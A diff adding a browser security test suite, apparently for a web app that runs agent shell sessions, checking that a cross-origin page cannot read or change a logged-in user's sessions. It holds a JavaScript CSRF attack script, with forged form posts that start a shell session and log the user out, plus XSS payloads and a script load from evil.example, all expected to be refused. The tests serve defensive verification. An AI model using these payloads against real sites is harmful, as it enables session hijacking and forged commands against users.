@@ -1,0 +1,170 @@
+"""A page of somebody else's, in the browser of somebody who is logged in, tries all that a browser can do."""
+
+import json
+import threading
+from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import Any
+
+import pytest
+from playwright.sync_api import Browser, Page
+
+from tests.browser.house import FLAGS, executable
+from tests.servers import TOKEN, Server, serving, wait_until
+
+ATTACK = """
+async ({ at, session }) => {
+  const got = {};
+  const tried = async (name, attempt) => {
+    try { got[name] = await attempt(); } catch (error) { got[name] = `refused: ${error.name}`; }
+  };
+  const json = { "content-type": "application/json" }, cookies = { credentials: "include" };
+  const turn = `${at}/api/sessions/${session}/turns`, body = JSON.stringify({ prompt: "echo pwned" });
+  const read = async (answer) => `${answer.type} ${answer.status} ${(await answer.text()).length}`;
+  await tried("read", async () => read(await fetch(`${at}/api/sessions`, cookies)));
+  await tried("read page", async () => read(await fetch(`${at}/`, cookies)));
+  await tried("read blind", async () => read(await fetch(`${at}/api/sessions`, { mode: "no-cors", ...cookies })));
+  await tried("json", async () => read(await fetch(turn, { method: "POST", headers: json, body, ...cookies })));
+  for (const kind of ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data"]) {
+    await tried(kind, async () => read(await fetch(turn,
+      { method: "POST", mode: "no-cors", headers: { "content-type": kind }, body, ...cookies })));
+  }
+  await tried("beacon", async () => `${navigator.sendBeacon(turn, new Blob([body], { type: "text/plain" }))}`);
+  await tried("patch", async () =>
+    read(await fetch(`${at}/api/sessions/${session}`, { method: "PATCH", ...cookies })));
+  const loads = (element) => new Promise((done) => {
+    element.onload = () => done("loaded"); element.onerror = () => done("refused: error");
+    setTimeout(() => done("refused: silence"), 3000);
+    document.body.append(element);
+  });
+  const make = (tag, more) => Object.assign(document.createElement(tag), more);
+  await tried("image", () => loads(make("img", { src: `${at}/static/icon.svg` })));
+  await tried("script", () => loads(make("script", { src: `${at}/api/sessions` })));
+  await tried("style", () => loads(make("link", { rel: "stylesheet", href: `${at}/sessions/${session}` })));
+  for (const path of [`/api/sessions/${session}/events`, `/sessions/${session}/stream`]) {
+    await tried(`source ${path.slice(-6)}`, () => new Promise((done) => {
+      const source = new EventSource(at + path, { withCredentials: true });
+      source.onopen = () => done("opened"); source.onmessage = () => done("read");
+      source.onerror = () => { source.close(); done("refused: error"); };
+    }));
+  }
+  await tried("socket", () => new Promise((done) => {
+    const socket = new WebSocket(`${at.replace("http", "ws")}/api/sessions/${session}/events`);
+    socket.onopen = () => done("opened"); socket.onerror = () => done("refused: error");
+  }));
+  for (const [name, action, fields] of [
+    ["form sessions", "/sessions", { prompt: "echo pwned", agent: "shell" }],
+    ["form turns", `/sessions/${session}/turns`, { prompt: "echo pwned" }],
+    ["form rename", `/sessions/${session}`, { title: "pwned" }],
+    ["form api", `/api/sessions/${session}/cancel`, {}],
+    ["form logout", "/logout", {}],
+  ]) {
+    await tried(name, async () => {
+      const frame = make("iframe", { name });
+      const form = make("form", { method: "post", action: at + action, target: name });
+      for (const [key, value] of Object.entries(fields)) form.append(make("input", { name: key, value }));
+      document.body.append(frame, form);
+      await new Promise((done) => { frame.onload = done; setTimeout(done, 3000); form.submit(); });
+      try { return frame.contentDocument ? "refused: blank" : "refused: shut"; } catch { return "refused: shut"; }
+    });
+  }
+  await tried("frame", async () => {
+    const frame = make("iframe", { src: `${at}/sessions/${session}` });
+    await loads(frame);
+    try { return frame.contentDocument?.body?.innerText ? "read" : "refused: shut"; } catch { return "refused: shut"; }
+  });
+  return got;
+}
+"""
+
+
+class Elsewhere(BaseHTTPRequestHandler):
+    """An empty page."""
+
+    def do_GET(self) -> None:
+        self.send_response(200)
+        self.send_header("content-type", "text/html")
+        self.end_headers()
+        self.wfile.write(b"<!doctype html><title>elsewhere</title><body>")
+
+    def log_message(self, *_: Any) -> None:
+        """Say nothing."""
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[int]:
+    """The port of a server that is not ours."""
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Elsewhere)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield server.server_address[1]
+    server.shutdown()
+    server.server_close()
+
+
+@pytest.fixture
+def page(chromium: Browser) -> Iterator[Page]:
+    """A page in a browser that takes evil.example for an address of this machine."""
+    browser = chromium.browser_type.launch(
+        executable_path=executable(),
+        args=[*FLAGS, "--host-resolver-rules=MAP *.example 127.0.0.1", "--disable-popup-blocking"],
+    )
+    yield browser.new_page()
+    browser.close()
+
+
+def answered(path: Path) -> list[dict[str, Any]]:
+    return [json.loads(line) for line in path.read_bytes().splitlines()]
+
+
+def logged_in(page: Page, server: Server) -> None:
+    page.goto(f"{server.address}/login#{TOKEN}")
+    page.wait_for_url(f"{server.address}/")
+
+
+# To a browser another port of this host is the same site: SameSite=Strict holds no cookie back from it.
+@pytest.mark.parametrize("host", ["127.0.0.1", "localhost", "evil.example"])
+def test_a_page_from_elsewhere_reads_nothing_and_changes_nothing(
+    host: str, page: Page, elsewhere: int, tmp_path: Path
+) -> None:
+    record = tmp_path / "access.jsonl"
+    with serving(tmp_path / "var", BREAKGLASS_ACCESS_LOG=str(record)) as server:
+        session = server.new_session(title="mine")
+        logged_in(page, server)
+        lines = server.log(session).read_bytes()
+        page.goto(f"http://{host}:{elsewhere}/")
+        wait_until(lambda: [row for row in answered(record) if row["path"] == "/"], "the first page")
+        before = len(answered(record))
+        got = page.evaluate(ATTACK, {"at": server.address, "session": session})
+        assert got.pop("beacon") == "true", "it was sent; nobody learns what became of it"
+        assert {name: what for name, what in got.items() if not what.startswith("refused: ")} == {}
+        wait_until(lambda: len(answered(record)) > before + 12, "what was refused, in the record")
+        statuses = {(row["method"], row["path"], row["status"]) for row in answered(record)[before:]}
+        assert {status for _, path, status in statuses if not path.startswith("/static/")} <= {400, 403, 405}
+        assert server.log(session).read_bytes() == lines
+        assert [each["id"] for each in server.ask("GET", "/api/sessions?archived=1")[1]["sessions"]] == [
+            session
+        ]
+        page.goto(f"{server.address}/sessions/{session}")
+        assert page.title().startswith("mine"), "still logged in"
+
+
+def test_a_name_that_was_made_to_point_here_is_refused(page: Page, tmp_path: Path) -> None:
+    with serving(tmp_path / "var") as server:
+        answer = page.goto(f"http://evil.example:{server.port}/")
+        assert answer
+        assert answer.status == 421
+
+
+def test_a_page_of_ours_runs_no_script_of_anybody_else(page: Page, tmp_path: Path) -> None:
+    with serving(tmp_path / "var") as server:
+        logged_in(page, server)
+        for attack in (
+            "document.body.setAttribute('onclick', 'window.pwned = 1')",
+            "document.body.innerHTML = '<img src=x onerror=alert(1)>'",
+            "() => setTimeout('window.pwned = 1', 0)",
+            "document.createElement('script').text = 'window.pwned = 1'",
+            "document.createElement('script').src = 'https://evil.example/a.js'",
+        ):
+            with pytest.raises(Exception, match="Trusted"):
+                page.evaluate(attack)
